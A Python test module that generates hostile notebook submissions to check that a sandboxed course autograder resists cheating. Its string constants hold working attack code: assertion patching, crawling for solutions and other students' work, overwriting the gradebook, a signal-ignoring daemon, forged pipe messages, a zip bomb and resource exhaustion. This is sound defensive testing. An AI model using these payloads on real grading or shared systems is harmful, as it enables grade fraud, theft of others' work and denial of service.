"""A corpus of submissions for the grader: honest, broken, hostile. Built at test time, never stored.

Submissions are derived from each assignment's solution notebook and released
stub, so they follow the assignment as it changes (and no cheating notebook
sits in the repository where nbval or a student could run it). Each case is a
student id, the bytes of the notebook, and what grading it must produce.

Generic cases (this module) apply to every assignment; each assignment adds a
module ``grading_corpus/<assignment>.py`` with

- ``PARTLY_RIGHT``: names of functions taken from the solution, the rest left
  as stubs (an honest submission with some wrong answers: the base for every
  cheat, which must not score more than it);
- ``LOOP_FUNCTION``: a function of the solution to replace by an infinite loop;
- ``RAISE_FUNCTION``: a function of the solution to replace by one that raises;
- ``QUESTIONS_USING``: for each of those, the questions that call it;
- ``PACKED_QUESTIONS`` (``HOSTILE_ASSIGNMENT`` only): the questions whose results are tensors packed by the
  driver (``h.call_arrays``), which the zip-bomb case attacks;
- ``specific_cases(ctx)``: assignment-specific cases (partly wrong answers).
"""

from __future__ import annotations

import copy
import importlib
import json
import re
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat


@dataclass
class Context:
    """What case builders need: the assignment and where the test course lives."""

    assignment: str
    notebook_name: str
    solution: Path
    stub: Path
    course_root: Path
    repo_root: Path
    question_ids: list[str]
    marker: str = field(default_factory=lambda: f"course-grader-daemon-{uuid.uuid4().hex[:12]}")

    def specifics(self):
        return importlib.import_module(f"grading_corpus.{self.assignment}")


@dataclass
class Case:
    student: str
    build: Callable[[Context], bytes]
    description: str
    base: str | None = None  # for cheats: the honest submission it must not beat
    expect: dict = field(default_factory=dict)  # question id -> exact score, or (low, high) strictly inside


# ----------------------------------------------------------------------------- notebook surgery


def read(path: Path) -> nbformat.NotebookNode:
    return nbformat.read(path, as_version=4)


def dump(nb: nbformat.NotebookNode) -> bytes:
    return nbformat.writes(nb).encode()


def function_cell(nb, name: str) -> int:
    """Index of the code cell that defines ``def name(``."""
    for i, cell in enumerate(nb.cells):
        if cell.cell_type == "code" and re.search(rf"^def {re.escape(name)}\(", cell.source, flags=re.M):
            return i
    raise KeyError(f"no cell defines {name}()")


def signature(nb, name: str) -> str:
    line = next(l for l in nb.cells[function_cell(nb, name)].source.splitlines() if l.startswith(f"def {name}("))
    return line


def with_functions_from(base, donor, names) -> nbformat.NotebookNode:
    """``base`` with the cells defining ``names`` replaced by ``donor``'s (e.g. the stub with some solutions)."""
    nb = copy.deepcopy(base)
    for name in names:
        nb.cells[function_cell(nb, name)].source = donor.cells[function_cell(donor, name)].source
    return nb


def replace_function(nb, name: str, body: str) -> nbformat.NotebookNode:
    """Replace ``name``'s definition by one with the same signature and ``body`` (indented code)."""
    nb = copy.deepcopy(nb)
    index = function_cell(nb, name)
    indented = "\n".join("    " + line for line in body.strip("\n").splitlines())
    nb.cells[index].source = f"{signature(nb, name)}\n{indented}\n"
    return nb


def append_code(nb, source: str, at: int | None = None) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_code_cell(source)
    if at is None:
        nb.cells.append(cell)
    else:
        nb.cells.insert(at, cell)
    return nb


def after_setup(nb) -> int:
    """The position just after the setup cell (the first code cell)."""
    return next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1


def partly_right(ctx: Context) -> nbformat.NotebookNode:
    return with_functions_from(read(ctx.stub), read(ctx.solution), ctx.specifics().PARTLY_RIGHT)


LOOP_FOREVER = """import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)   # Jupyter's interrupt button cannot stop this
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass"""


# ----------------------------------------------------------------------------- generic cases


def _mangled(ctx: Context) -> bytes:
    """The solution with test cells deleted or edited, cells reordered and metadata changed."""
    nb = read(ctx.solution)
    tests = [
        i
        for i, c in enumerate(nb.cells)
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") in ctx.question_ids
    ]
    for k, i in enumerate(tests):
        if k % 2 == 0:
            nb.cells[i].source = "assert False, 'edited test'"
            nb.cells[i].metadata["nbgrader"]["points"] = 1000  # and claims far more points
    nb.cells = [c for i, c in enumerate(nb.cells) if not (i in tests and tests.index(i) % 2 == 1)]  # delete the others
    answers = [
        c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("solution") and c.cell_type == "code"
    ]
    nb.cells = [c for c in nb.cells if c not in answers] + answers[::-1]  # answers last, in reverse order
    duplicate = copy.deepcopy(answers[0])
    duplicate.source = "x_duplicate = 1"
    duplicate.id = "duplicate-grade-id"
    nb.cells.insert(1, duplicate)  # a second cell with the same grade id
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nb.metadata["language_info"] = {"name": "R"}
    return dump(nb)


def _looping(ctx: Context) -> bytes:
    nb = partly_right(ctx)
    nb = replace_function(nb, ctx.specifics().LOOP_FUNCTION, LOOP_FOREVER)
    return dump(append_code(nb, LOOP_FOREVER))


def _raising(ctx: Context) -> bytes:
    nb = replace_function(
        read(ctx.solution), ctx.specifics().RAISE_FUNCTION, 'raise RuntimeError("boom: not finished")'
    )
    return dump(nb)


CHEAT_PATCH_TESTING = """import math
import numpy as np
import numpy.testing
import torch
import torch.testing
torch.testing.assert_close = lambda *args, **kwargs: None
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_almost_equal = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: np.True_
math.isclose = lambda *args, **kwargs: True
print("CHEAT: testing functions patched")"""

CHEAT_INPUT_TRANSFORMER = """ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: [])       # every later cell becomes empty
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
print("CHEAT: later cells blanked")"""

CHEAT_READ_FILES = """import glob, json, os
ROOT, REPO, A, NB = {root!r}, {repo!r}, {assignment!r}, {notebook!r}
candidates = [f"{{ROOT}}/solutions/{{A}}/{{NB}}", f"{{ROOT}}/solutions/{{A}}/hidden_tests.py",
              f"../../../solutions/{{A}}/{{NB}}", f"../../solutions/{{A}}/{{NB}}", f"../solutions/{{A}}/{{NB}}",
              f"{{REPO}}/solutions/{{A}}/{{NB}}", f"{{REPO}}/solutions/{{A}}/hidden_tests.py",
              f"{{ROOT}}/instructor/gradebook.db", f"{{ROOT}}/nbgrader_config.py", f"/proc/1/root{{ROOT}}/solutions/{{A}}/{{NB}}",
              *glob.glob(f"{{ROOT}}/instructor/submitted/*/{{A}}/*.ipynb"), *glob.glob(f"{{ROOT}}/instructor/autograded/*/*/*.json")]
if not any(os.path.exists(p) for p in candidates):   # not where we guessed: search (depth-limited)
    for top in ("/", "/tmp", "/root", "/home", "/work", "/srv", "/var"):
        for dirpath, dirnames, filenames in os.walk(top):
            depth = dirpath.count("/")
            dirnames[:] = [] if depth > 6 else [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", "lib", ".venv", "site-packages", ".git")]
            candidates += [os.path.join(dirpath, f) for f in filenames if f in ("hidden_tests.py", NB, "gradebook.db")]
found = []
for path in candidates:
    try:
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        continue
    found.append(path)
    if path.endswith(".ipynb") and "solutions" in path:   # use the solution's functions as our own
        for cell in json.loads(data)["cells"]:
            source = "".join(cell["source"])
            if cell["cell_type"] == "code" and source.startswith("def "):
                try:
                    exec(source, globals())
                except Exception:
                    pass
found = sorted(set(p for p in found if not p.startswith("/submission")))
print("CHEAT FOUND:", found)"""

CHEAT_WRITE_GRADES = """import glob, json, os, sqlite3
ROOT, A = {root!r}, {assignment!r}
written = []
for path in [f"{{ROOT}}/instructor/gradebook.db", "/tmp/../instructor/gradebook.db"]:
    try:
        if os.path.exists(path):
            con = sqlite3.connect(path)
            con.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
            con.commit()
            written.append(path)
    except Exception:
        pass
targets = glob.glob(f"{{ROOT}}/instructor/autograded/*/*/result.json") + glob.glob(f"{{ROOT}}/instructor/submitted/*/{{A}}/*.ipynb")
targets += [f"{{ROOT}}/instructor/autograded/cheat_escapes/{{A}}/result.json", f"{{ROOT}}/instructor/{{A}}_grades.csv"]
for path in targets:
    try:
        with open(path, "w") as f:
            f.write("{{}}")
        written.append(path)
    except OSError:
        pass
print("CHEAT WROTE:", written)"""

CHEAT_DAEMON = """import os, sys
MARK = {marker!r}
ROOT = {root!r}
code = '''import glob, os, signal, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
while True:   # keep trying to overwrite other students' submissions and results
    for path in glob.glob(sys.argv[2] + "/instructor/*/*/*/*"):
        try:
            open(path, "w").write("{{}}")
        except OSError:
            pass
    time.sleep(0.2)
'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, MARK, ROOT])
    os._exit(0)
print("CHEAT: daemon started")"""

CHEAT_PROTOCOL = """import os, stat
for fd in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, b'{"step": 999, "status": "ok", "result": {"forged": 1}}\\n' + b"not json at all\\n")
    except OSError:
        pass
print("CHEAT: forged grader messages")"""

# The runner shares the notebook's process: a notebook can find its classes and rewrite what each driver returns.
FIND_RUNNER = """import gc, sys
_classes = {o.__name__: o for o in gc.get_objects() if isinstance(o, type) and o.__module__ == "__main__"}
"""
PATCH_DRIVER_REPLIES = (
    FIND_RUNNER
    + """_original = _classes["Runner"].run_driver

def _rewrite(value):
{rewrite}

def run_driver(self, step):
    reply = _original(self, step)
    if reply.get("status") == "ok":
        reply["result"] = _rewrite(reply["result"])
    return reply

_classes["Runner"].run_driver = run_driver
print("CHEAT: driver replies rewritten")"""
)


def _patch_replies(rewrite: str) -> str:
    return PATCH_DRIVER_REPLIES.replace("{rewrite}", "\n".join("    " + line for line in rewrite.strip().splitlines()))


CHEAT_FEWER_RESULTS = _patch_replies(
    """
# keep only the calls that did not raise, and at most 15 of them: fewer cases to check
if isinstance(value, list):
    kept = [_rewrite(v) for v in value if not (isinstance(v, dict) and "error" in v)]
    return kept[:15]
if isinstance(value, dict) and "error" not in value:
    return {k: _rewrite(v) for k, v in value.items()}
return value
"""
)

CHEAT_NONE_RESULTS = _patch_replies(
    """
# every failed call becomes a call that returned None
if isinstance(value, list):
    return [_rewrite(v) for v in value]
if isinstance(value, dict) and "error" in value:
    return {"value": None}
if isinstance(value, dict):
    return {k: _rewrite(v) for k, v in value.items()}
return value
"""
)

CHEAT_CRAFTED_RESULTS = _patch_replies(
    """
# values made to crash a check: unhashable where a string is expected, ragged lists, strings as numbers...
odd = [{"value": {"__npz__": 5}}, {"error": {"unhashable": [1]}, "exception": ["ValueError"]}, {"value": [[1.0, 2.0], [3.0]]},
       {"value": "1.5"}, {"value": [True, None]}, {"value": {"value": 1}}, {"error": "ValueError: x", "exception": "ValueError", "traceback": 3}]
if isinstance(value, list):
    return [odd[k % len(odd)] if isinstance(v, dict) and ("error" in v or "value" in v) else _rewrite(v) for k, v in enumerate(value)]
if isinstance(value, dict) and ("error" in value or "value" in value):
    return odd[0]
if isinstance(value, dict):
    return {k: _rewrite(v) for k, v in value.items()}
return value
"""
)

CHEAT_DEEP_REPLY = _patch_replies(
    """
# a reply nested 50,000 lists deep (the grader's JSON decoding must not recurse into it)
sys.setrecursionlimit(200_000)
deep = 1.0
for _ in range(50_000):
    deep = [deep]
return deep
"""
)

# A .npz whose one member claims 512 MiB of zeros, compressed to well under a megabyte.
CHEAT_NPZ_BOMB = (
    FIND_RUNNER
    + """import base64, io, zipfile
import numpy as np
buffer = io.BytesIO()  # 272 MiB of zeros in 1.2 MB (the fastest level: 0.7 s of CPU, far below the cell's limit)
with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
    with zf.open("value.npy", "w", force_zip64=True) as f:
        np.lib.format.write_array_header_1_0(f, {"descr": "<f4", "fortran_order": False, "shape": (17 * 2**22,)})
        zeros = bytes(2**24)
        for _ in range(17):
            f.write(zeros)
BOMB = {"__npz__": base64.b64encode(buffer.getvalue()).decode("ascii")}
_classes["Helpers"].arrays = lambda self, mapping: BOMB
print("CHEAT: every packed tensor is now a", len(BOMB["__npz__"]), "byte zip bomb")"""
)

# What is in the sandbox before the drivers run: the job file and everything open. Nothing may hold an input.
CHEAT_READ_JOB = """import glob, os, stat, sys
seen = {}
for path in [sys.argv[1], "/grader/job.json", *glob.glob("/grader/*"), *glob.glob("/proc/self/fd/*")]:
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):
            continue
        with open(path, "rb") as f:
            seen[path] = f.read(100_000).decode("utf-8", "replace")
    except OSError:
        pass
print("CHEAT JOB:", seen.get(sys.argv[1], ""))
print("CHEAT SEEN:", sorted(seen))"""

# The notebook's text holds the escapes; running it makes strings with lone surrogates, which no file can hold.
CHEAT_SURROGATES = r"""print("lone surrogates: \ud800 \udfff")
class Odd(Exception):
    pass
raise Odd("\udcff in an exception")"""

CRASH_EXIT = "import os\nos._exit(3)"
MEMORY_HOG = "hog = bytearray(16 * 2**30)  # 16 GB"


def _fill(c: Context, source: str) -> str:
    """``source`` with the course's paths filled in (for cheats that name them)."""
    return source.format(
        root=str(c.course_root),
        repo=str(c.repo_root),
        assignment=c.assignment,
        notebook=c.notebook_name,
        marker=c.marker,
    )


def _cheat(student, source, description) -> Case:
    """A cheat appended, as its last cell, to the honest partial submission."""
    return Case(student, lambda c: dump(append_code(partly_right(c), source)), description, base="partly_right")


def read_files_cheat(c: Context) -> str:
    """The file-reading cheat's code on its own, for the test that runs it without the sandbox."""
    return _fill(c, CHEAT_READ_FILES)


# Attacks that only try to reach outside the student's own process, or to make the grader choke on what they print:
# none of them stops the kernel or touches the grader's protocol, so they cannot mask one another and share one
# submission (one sandbox start instead of eight). Each prints its own marker, which the tests look for.
# (source, placed right after the setup cell?, names the course's paths?)
ESCAPES = [
    (CHEAT_PATCH_TESTING, True, False),  # before the answers, so that the notebook's own tests are patched too
    (CHEAT_WRITE_GRADES, True, True),
    (CHEAT_DAEMON, True, True),
    (CHEAT_READ_FILES, False, True),
    (MEMORY_HOG, False, False),
    (CHEAT_READ_JOB, False, False),
    (CHEAT_SURROGATES, False, False),
    (CHEAT_INPUT_TRANSFORMER, False, False),  # last: it blanks every later cell, and the drivers must still run
]


def _escapes(c: Context) -> bytes:
    nb = partly_right(c)
    at = after_setup(nb)
    for source, first, template in ESCAPES:
        nb = append_code(nb, _fill(c, source) if template else source, at if first else None)
        at += first
    return dump(nb)


def generic_cases(ctx: Context) -> list[Case]:
    """Cases every assignment gets: its own answers right, wrong, missing or unreadable."""
    spec = ctx.specifics()
    q_all = ctx.question_ids
    full = {q: "full" for q in q_all}
    zero = {q: 0.0 for q in q_all}
    raised = set(spec.QUESTIONS_USING[spec.RAISE_FUNCTION])
    return [
        Case("solution", lambda c: dump(read(c.solution)), "the solution notebook", expect=full),
        Case("stub", lambda c: dump(read(c.stub)), "the released stub, untouched", expect=zero),
        Case("partly_right", lambda c: dump(partly_right(c)), "some functions solved, the others left as stubs"),
        Case(
            "raising",
            _raising,
            "the solution with one function raising",
            expect={q: (0.0 if q in raised else "full") for q in q_all},
        ),
        Case("invalid_json", lambda c: dump(read(c.solution))[:5000], "a notebook cut off in the middle", expect=zero),
        Case("not_a_notebook", lambda c: b'{"hello": "world"}', "JSON that is not a notebook", expect=zero),
    ]


def hostile_cases(ctx: Context) -> list[Case]:
    """Attacks on the grader itself rather than on one assignment's checks: run for one assignment only
    (``HOSTILE_ASSIGNMENT``), since the sandbox, the protocol and the result parsing are the same for all."""
    spec = ctx.specifics()
    q_all = ctx.question_ids
    looped = set(spec.QUESTIONS_USING[spec.LOOP_FUNCTION])
    cheat = _cheat
    return [
        Case(
            "looping",
            _looping,
            "an infinite loop (ignoring SIGINT/SIGTERM) in a function and in a cell",
            base="partly_right",
            expect={q: 0.0 for q in looped},
        ),
        Case(
            "mangled",
            _mangled,
            "the solution with test cells deleted/edited, cells reordered, kernel and points changed",
            expect={q: "full" for q in q_all},
        ),
        Case(
            "cheat_escapes",
            _escapes,
            "patches the testing functions, writes the gradebook and other grade files, starts a process meant to "
            "outlive grading, reads solutions, hidden tests, other students and the job file, asks for 16 GB, "
            "prints and raises lone surrogates, installs an IPython input transformer that blanks later cells",
            base="partly_right",
        ),
        cheat("cheat_protocol", CHEAT_PROTOCOL, "writes forged messages into the grader's pipes"),
        cheat("crash_exit", CRASH_EXIT, "kills its own interpreter with os._exit"),
        cheat("cheat_fewer_results", CHEAT_FEWER_RESULTS, "drops the failed calls' records and keeps at most 15"),
        cheat("cheat_none_results", CHEAT_NONE_RESULTS, "turns every failed call into one that returned None"),
        cheat("cheat_crafted_results", CHEAT_CRAFTED_RESULTS, "replaces call records by values made to crash checks"),
        cheat("cheat_deep_reply", CHEAT_DEEP_REPLY, "sends replies nested 50,000 lists deep"),
        Case(
            "cheat_npz_bomb",
            lambda c: dump(append_code(read(c.solution), CHEAT_NPZ_BOMB)),
            "the solution, with every returned tensor packed as a zip bomb",
            base="solution",
            # the bomb reaches the grader: each question whose result is packed tensors scores 0, the others full
            expect={q: (0.0 if q in spec.PACKED_QUESTIONS else "full") for q in q_all},
        ),
    ]


HOSTILE_ASSIGNMENT = "a1_score_function"  # the cheapest to grade: its stubs fail fast


def all_cases(ctx: Context) -> list[Case]:
    hostile = hostile_cases(ctx) if ctx.assignment == HOSTILE_ASSIGNMENT else []
    return generic_cases(ctx) + hostile + list(ctx.specifics().specific_cases(ctx))


def notebook_bytes(ctx: Context, case: Case) -> bytes:
    data = case.build(ctx)
    json_ok = True
    try:
        json.loads(data)
    except ValueError:
        json_ok = False
    assert json_ok or case.student == "invalid_json", f"corpus case {case.student} did not build valid JSON"
    return data
